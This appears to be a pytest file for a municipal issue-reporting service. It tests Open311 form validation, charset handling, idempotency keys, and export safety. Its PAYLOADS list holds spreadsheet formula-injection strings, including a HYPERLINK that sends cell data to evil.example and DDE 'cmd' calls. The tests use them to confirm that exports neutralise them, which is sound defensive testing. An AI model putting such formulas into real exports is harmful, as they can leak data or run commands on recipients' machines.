"""Outside findings 1, 3, 4 and 12: one validation for every intake channel, strict form decoding, exports
that never fail on stored text and never run it as a formula, and an Idempotency-Key bound to its request."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from urllib.parse import quote_from_bytes

import openpyxl
import pytest
import sqlalchemy as sa
from PIL import Image

from core.storage import tables as t
from tests.issues.conftest import COMMUNITY

FORM = "application/x-www-form-urlencoded"


def _count(world) -> int:
    with world.registry.store.engine.connect() as conn:
        return conn.execute(sa.select(sa.func.count()).select_from(t.issues)).scalar_one()


def _descriptions(world) -> list[str]:
    with world.registry.store.engine.connect() as conn:
        return list(conn.execute(sa.select(t.issues.c.description).order_by(t.issues.c.id)).scalars())


def _form(world, **extra) -> dict:
    _, lon, lat = world.point()
    return {"api_key": world.keys["wechat"], "service_code": "dispute", "lat": str(lat), "long": str(lon), **extra}


def _raw_form(world, body: bytes, content_type: str = FORM):
    return world.app.test_client().post("/open311/v2/requests.json", data=body, content_type=content_type)


def _encoded(fields: dict) -> bytes:
    return b"&".join(
        quote_from_bytes(k.encode()).encode()
        + b"="
        + quote_from_bytes(v if isinstance(v, bytes) else v.encode()).encode()
        for k, v in fields.items()
    )


# -- item 1 and 4: the Open311 form applies the JSON API's checks ---------------------------------------------------
@pytest.mark.parametrize(
    ("field", "value", "named"),
    [
        ("description", "nul\x00x", "description"),
        ("description", "bell\x07", "description"),
        ("description", "长" * 5001, "description"),
        ("first_name", "名" * 101, "first_name"),
        ("phone", "1" * 33, "phone"),
        ("address_string", "址" * 501, "address_string"),
    ],
    ids=["nul", "bell", "long-description", "long-name", "long-phone", "long-address"],
)
def test_open311_form_is_checked_like_the_json_api(world, field, value, named):
    r = world.app.test_client().post("/open311/v2/requests.json", data=_form(world, **{field: value}))
    assert r.status_code == 422, r.data
    assert named in r.get_json()[0]["description"]
    assert _count(world) == 0


def test_the_json_api_refuses_control_characters_too(world):
    _, lon, lat = world.point()
    r = world.clients["wechat"].post(
        "/api/v1/issues", json={"category": "dispute", "lon": lon, "lat": lat, "address": "1栋\x1b[31m"}
    )
    assert r.status_code == 422 and "address" in r.get_json()["error"]["details"]
    assert _count(world) == 0


def test_a_form_field_that_is_not_utf8_is_refused_not_stored_as_escapes(world):
    body = _encoded({**_form(world), "description": b"\xed\xa0\x80x"})
    r = _raw_form(world, body)
    assert r.status_code == 400 and "description" in r.get_json()[0]["description"]
    assert "UTF-8" in r.get_json()[0]["description"] and _count(world) == 0


def test_a_gbk_form_that_says_so_is_read_as_gbk(world):
    body = _encoded({**_form(world), "description": "垃圾桶满了".encode("gbk")})
    assert _raw_form(world, body).status_code == 400  # undeclared: not UTF-8
    r = _raw_form(world, body, f"{FORM}; charset=GBK")
    assert r.status_code == 201, r.data
    assert _descriptions(world) == ["垃圾桶满了"]


def test_an_unknown_charset_is_415(world):
    r = _raw_form(world, _encoded(_form(world)), f"{FORM}; charset=klingon")
    assert r.status_code == 415 and "charset" in r.get_json()[0]["description"]


def test_multipart_bytes_that_are_not_utf8_are_refused(world):
    fields = _form(world)
    boundary = "----weige"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode() for k, v in fields.items()
    ]
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="description"\r\n\r\n'.encode() + b"\xed\xa0\x80bad\r\n"
    )
    body = b"".join(parts) + f"--{boundary}--\r\n".encode()
    r = _raw_form(world, body, f"multipart/form-data; boundary={boundary}")
    assert r.status_code == 400 and "description" in r.get_json()[0]["description"]
    # the same through the API's own multipart intake
    api = world.clients["wechat"].post(
        "/api/v1/issues",
        data=body.replace(b'name="service_code"', b'name="category"').replace(b'name="long"', b'name="lon"'),
        content_type=f"multipart/form-data; boundary={boundary}",
    )
    assert api.status_code == 400 and api.get_json()["error"]["code"] == "bad_encoding"
    assert _count(world) == 0


def test_a_good_multipart_report_still_works(world):
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(buffer, "PNG")
    r = world.app.test_client().post(
        "/open311/v2/requests.json",
        data={
            **_form(world, description="井盖缺失\n请尽快", first_name="王"),
            "media": (io.BytesIO(buffer.getvalue()), "a.png"),
        },
        content_type="multipart/form-data",
    )
    assert r.status_code == 201, r.data
    assert _descriptions(world) == ["井盖缺失\n请尽快"]


# -- items 1 and 3: exports never fail on stored text and never run it ----------------------------------------------
def _store_raw(world, descriptions):
    """Issues with these descriptions, written past intake (as data stored before the checks would be)."""
    _, lon, lat = world.point()
    ids = []
    for text in descriptions:
        r = world.clients["staff"].post("/api/v1/issues", json={"category": "dispute", "lon": lon, "lat": lat})
        ids.append(r.get_json()["id"])
        with world.registry.store.transaction() as conn:
            conn.execute(t.issues.update().where(t.issues.c.id == ids[-1]).values(description=text))
    return ids


PAYLOADS = ['=HYPERLINK("http://evil.example/"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "\tx", "普通描述"]  # fmt: skip


def test_exports_keep_formulas_as_text(world):
    ids = _store_raw(world, PAYLOADS)
    r = world.clients["staff"].get(f"/api/v1/issues/export?format=xlsx&area={COMMUNITY}")
    assert r.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(r.data)).active
    header = [c.value for c in sheet[1]]
    col, id_col = header.index("描述") + 1, header.index("编号") + 1
    cells = {sheet.cell(row, id_col).value: sheet.cell(row, col) for row in range(2, sheet.max_row + 1)}
    for issue_id, text in zip(ids, PAYLOADS, strict=True):
        cell = cells[issue_id]
        assert cell.data_type == "s"
        assert cell.value == (text if text == "普通描述" else "'" + text)
    text = world.clients["staff"].get(f"/api/v1/issues/export?format=csv&area={COMMUNITY}").data.decode("utf-8-sig")
    rows = {int(r["编号"]): r["描述"] for r in csv.DictReader(io.StringIO(text))}
    for issue_id, payload in zip(ids, PAYLOADS, strict=True):
        assert rows[issue_id] == (payload if payload == "普通描述" else "'" + payload)


def test_stored_control_characters_do_not_break_the_exports(world):
    (issue_id,) = _store_raw(world, ["nul\x00x\x0bend"])
    for who in ("staff", "admin"):
        r = world.clients[who].get("/api/v1/issues/export?format=xlsx")
        assert r.status_code == 200, r.data
        sheet = openpyxl.load_workbook(io.BytesIO(r.data)).active
        header = [c.value for c in sheet[1]]
        assert sheet.cell(2, header.index("描述") + 1).value == "nul\ufffdx\ufffdend"
    xml = world.app.test_client().get(f"/open311/v2/requests/{issue_id}.xml?api_key={world.keys['staff']}")
    assert xml.status_code == 200
    assert ET.fromstring(xml.data).find("request/description").text == "nul\ufffdx\ufffdend"


# -- item 12: an Idempotency-Key belongs to one request -------------------------------------------------------------
def test_an_idempotency_key_reused_for_another_request_is_refused(world):
    client = world.app.test_client()
    headers = {"Idempotency-Key": "abc"}
    first = client.post("/open311/v2/requests.json", data=_form(world, description="第一次"), headers=headers)
    again = client.post("/open311/v2/requests.json", data=_form(world, description="第一次"), headers=headers)
    other = client.post("/open311/v2/requests.json", data=_form(world, description="另一件事"), headers=headers)
    assert (first.status_code, again.status_code) == (201, 200)
    assert again.get_json()[0]["service_request_id"] == first.get_json()[0]["service_request_id"]
    assert other.status_code == 422
    assert "Idempotency-Key" in other.get_json()[0]["description"]
    assert _descriptions(world) == ["第一次"]


def test_an_external_id_reused_for_another_report_is_refused(world):
    _, lon, lat = world.point()
    body = {"category": "dispute", "lon": lon, "lat": lat, "external_id": "wx-9", "description": "一"}
    client = world.clients["wechat"]
    assert client.post("/api/v1/issues", json=body).status_code == 201
    assert client.post("/api/v1/issues", json=body).status_code == 200
    moved = client.post("/api/v1/issues", json={**body, "lon": lon + 1e-5})
    assert moved.status_code == 422 and moved.get_json()["error"]["code"] == "idempotency_key_reused"
    assert "external_id" in moved.get_json()["error"]["message"]
    assert _descriptions(world) == ["一"]


# -- lesser: Open311 service definitions ---------------------------------------------------------------------------
def test_service_definition_is_one_element_and_unknown_codes_are_404(world):
    client = world.app.test_client()
    root = ET.fromstring(client.get("/open311/v2/services/gas_hazard.xml").data)
    assert root.tag == "service_definition" and root.find("service_definition") is None
    assert root.find("service_code").text == "gas_hazard" and root.find("attributes") is not None
    assert client.get("/open311/v2/services/gas_hazard.json").get_json() == {
        "service_code": "gas_hazard",
        "attributes": [],
    }
    for fmt in ("json", "xml"):
        missing = client.get(f"/open311/v2/services/nothing.{fmt}")
        assert missing.status_code == 404
    assert client.get("/open311/v2/services/nothing.json").get_json()[0]["code"] == 404
